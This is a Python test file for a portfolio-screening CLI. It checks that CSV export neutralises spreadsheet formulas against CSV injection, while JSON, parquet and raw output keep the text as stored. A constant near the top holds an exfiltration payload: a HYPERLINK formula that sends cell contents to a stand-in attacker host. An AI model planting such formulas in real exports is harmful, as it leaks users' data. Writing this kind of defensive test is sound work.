"""`screening query --format csv` neutralises formula-looking text (CSV injection, OWASP).

A real workbook goes through the real ingest flow into a real DuckDB warehouse, which keeps
desk officers' text as typed; the CSV export is where `=HYPERLINK(...)` must become text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook
from typer.testing import CliRunner

from faces.cli import app
from faces.export import neutralise_formulas

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
LONG = (
    "The programme supports women's participation in local peace committees and "
    "mediation in Darfur, trains women mediators, and funds survivors of sexual and "
    "gender-based violence with medical, legal and psychosocial services in three states."
)
TITLES = [FORMULA, "+45 hotline for survivors", "Women mediators"]
PARTNERS = ["@UN Women", "- Dansk Flygtningehjælp", "UNFPA"]  # as typed, bullet included
HEADER = [
    "Project ID",
    "Title",
    "Description",
    "Country",
    "DAC code",
    "Budget",
    "Partner",
    "Gender marker",
]
SQL = (
    "SELECT project_id, title, partner, -budget AS negative_budget, "
    "-sector_code AS negative_code FROM projects_current ORDER BY project_id"
)


def _portfolio(path: Path) -> Path:
    """Three projects that load; their titles and partners look like formulas."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Bilateral"
    ws.append(HEADER)
    ws.append(["2025-01", TITLES[0], LONG, "Sudan", 15220, 1234567.5, PARTNERS[0], 2])
    ws["B2"].data_type = "s"  # text that looks like a formula, as a desk officer typed it
    ws.append(["2025-02", TITLES[1], LONG, "Uganda", 15180, 250000, PARTNERS[1], 1])
    ws.append(["2025-03", TITLES[2], LONG, "Afghanistan", 15170, 100000, PARTNERS[2], 2])
    wb.save(path)
    return path


@pytest.fixture
def warehouse_with_formulas(ingest, tmp_path: Path) -> Path:
    summary = ingest(_portfolio(tmp_path / "portfolio.xlsx"))
    assert summary["rows_loaded"] == 3, summary
    return ingest.db


def _query(*options: str) -> list[list[str]]:
    result = CliRunner().invoke(app, ["query", SQL, *options])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def _column(rows: list[list[str]], name: str) -> list[str]:
    header, *body = rows
    return [row[header.index(name)] for row in body]


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_the_warehouse_keeps_the_text_as_typed(warehouse_with_formulas) -> None:
    result = CliRunner().invoke(app, ["query", SQL, "--format", "json"])
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert [row["title"] for row in rows] == TITLES
    assert [row["partner"] for row in rows] == PARTNERS
    assert [row["negative_budget"] for row in rows] == [-1234567.5, -250000.0, -100000.0]


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_csv_prefixes_formula_looking_text(warehouse_with_formulas) -> None:
    rows = _query("--format", "csv")
    assert _column(rows, "title") == ["'" + FORMULA, "'+45 hotline for survivors", TITLES[2]]
    assert _column(rows, "partner") == ["'@UN Women", "'- Dansk Flygtningehjælp", "UNFPA"]
    assert _column(rows, "project_id") == ["2025-01", "2025-02", "2025-03"]


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_csv_leaves_negative_numbers_alone(warehouse_with_formulas) -> None:
    rows = _query("--format", "csv")
    assert _column(rows, "negative_budget") == ["-1234567.5", "-250000.0", "-100000.0"]
    assert _column(rows, "negative_code") == ["-15220", "-15180", "-15170"]


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_raw_csv_writes_the_text_as_stored(warehouse_with_formulas) -> None:
    rows = _query("--format", "csv", "--raw")
    assert _column(rows, "title") == TITLES
    assert _column(rows, "partner") == PARTNERS
    assert _column(rows, "negative_budget") == ["-1234567.5", "-250000.0", "-100000.0"]


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_json_is_not_escaped_even_without_raw(warehouse_with_formulas) -> None:
    plain = CliRunner().invoke(app, ["query", SQL, "--format", "json"])
    raw = CliRunner().invoke(app, ["query", SQL, "--format", "json", "--raw"])
    assert plain.exit_code == raw.exit_code == 0, plain.output + raw.output
    assert plain.stdout == raw.stdout
    assert json.loads(plain.stdout)[0]["title"] == FORMULA


@pytest.mark.slow
@pytest.mark.xdist_group("prefect")
def test_column_names_from_stored_text_are_escaped_too(warehouse_with_formulas) -> None:
    sql = "PIVOT (SELECT partner, budget FROM projects_current) ON partner USING sum(budget)"
    rows = _query("--format", "csv")  # the default query: plain names stay as they are
    assert rows[0][:2] == ["project_id", "title"]
    result = CliRunner().invoke(app, ["query", sql, "--format", "csv"])
    assert result.exit_code == 0, result.output
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert sorted(header) == ["'- Dansk Flygtningehjælp", "'@UN Women", "UNFPA"]


def test_neutralise_formulas_touches_only_strings_and_not_its_input() -> None:
    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "\tx", "\rx", "ok", None], dtype="string"),
            "mixed": pd.Series(["-x", [1, 2], None, 3, b"=x"], dtype=object),
            "number": [-1, -2, 3, 4, 5],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["text"].tolist() == ["'=1+1", "'\tx", "'\rx", "ok", pd.NA]
    assert safe["mixed"].tolist() == ["'-x", [1, 2], None, 3, b"=x"]
    assert safe["number"].tolist() == [-1, -2, 3, 4, 5]
    assert str(safe["text"].dtype) == "string"
    assert frame["text"].tolist()[0] == "=1+1"


# --- screening export TABLE --format csv|parquet|xlsx (issue 11) -----------------------------


def test_export_every_format(warehouse_with_formulas, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    written = {}
    for fmt in ("csv", "parquet", "xlsx"):
        out = tmp_path / f"projects.{fmt}"
        result = CliRunner().invoke(
            app, ["export", "projects_current", "--format", fmt, "--out", str(out)]
        )
        assert result.exit_code == 0, result.output
        assert result.output.strip() == f"Wrote {out} (3 rows of projects_current)."
        written[fmt] = out
    rows = list(csv.DictReader(written["csv"].open(encoding="utf-8")))
    assert "'" + FORMULA in {r["title"] for r in rows}  # neutralised for people
    frame = pd.read_parquet(written["parquet"])
    assert FORMULA in frame["title"].tolist()  # exactly as stored for programs
    sheet = load_workbook(written["xlsx"])["projects_current"]
    titles = [c for c in sheet["F"] if c.value == FORMULA] or [
        c for row in sheet.iter_rows() for c in row if c.value == FORMULA
    ]
    assert titles and all(c.data_type == "s" for c in titles)  # text, never a formula
    assert sheet.print_title_rows == "$1:$1"


def test_export_an_unknown_table_lists_the_names(warehouse_with_formulas, tmp_path) -> None:
    result = CliRunner().invoke(app, ["export", "secrets"])
    assert result.exit_code == 1
    assert '"secrets" is not a table or view of the warehouse; choose one of:' in result.output
    assert "summary_pillars" in result.output
